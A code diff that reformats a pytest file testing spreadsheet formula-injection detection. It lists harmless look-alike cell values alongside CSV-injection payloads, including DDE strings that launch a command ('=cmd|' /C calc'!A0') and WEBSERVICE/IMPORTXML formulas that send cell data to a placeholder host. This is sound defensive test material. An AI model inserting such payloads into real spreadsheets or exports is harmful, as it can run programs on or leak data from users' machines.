@@ -12,9 +12,11 @@ from tests.seekout.test_tables_of_tools import read
 @pytest.mark.parametrize(
     "formula",
     [
-        "=1+1", "=A2", "=$B$2", "=B2&\" \"&C2", "=Sheet1!A2&\" \"&Sheet1!B2", "='My list'!A2", "=VLOOKUP(A2;Sheet2!A:B;2;0)",
+        "=1+1", "=A2", "=$B$2", "=B2&\" \"&C2", "=Sheet1!A2&\" \"&Sheet1!B2", "='My list'!A2",
+        "=VLOOKUP(A2;Sheet2!A:B;2;0)",
         "=SVERWEIS(A2;B:C;2;FALSCH)", '=CONCATENATE(B3," ",C3)', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
-        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
+        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)",
+        "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
         "=TODAY()", "+SUM(A1:A3)", "-HYPERLINK(A1)", "=-B2", "=(A1+B1)/2", "=Tabelle1!$A$1", "=[Book1.xlsx]Sheet1!A1",
         "=IFERROR(INDEX(Data!C:C,MATCH(A2,Data!A:A,0)),\"\")", "=WEBSERVICE(\"http://x.example/?\"&A1)", "=B2",
         "= A2 & B2", "=@A2", "='[list.xlsx]Sheet 1'!$A$2", "=[@Company]", "=Table1[[#This Row],[Company]]",
@@ -27,8 +29,10 @@ def test_a_formula_says_nothing(formula):
 @pytest.mark.parametrize(
     "text",
     [
-        "=mc Group", "=E=MC2", "@Home Corp", "+Plus Lead", "- Head of Sales", "@dieve founder", "-VP (EMEA)", "+49 171 1234567",
-        "+1 (415) 555-0101", "-1 Agency", "=)", "@CTO", "- Manager (A1 team)", "-", "@B2B Sales", "+A1 Security", "=Equal Labs (Berlin)",
+        "=mc Group", "=E=MC2", "@Home Corp", "+Plus Lead", "- Head of Sales", "@dieve founder",
+        "-VP (EMEA)", "+49 171 1234567",
+        "+1 (415) 555-0101", "-1 Agency", "=)", "@CTO", "- Manager (A1 team)", "-", "@B2B Sales",
+        "+A1 Security", "=Equal Labs (Berlin)",
         "==", "= Title =", "@Work(place)", "-Sales(EMEA)", "+Co(NY)", "@adabay", "=7", "=The Company=",
     ],
 )  # fmt: skip
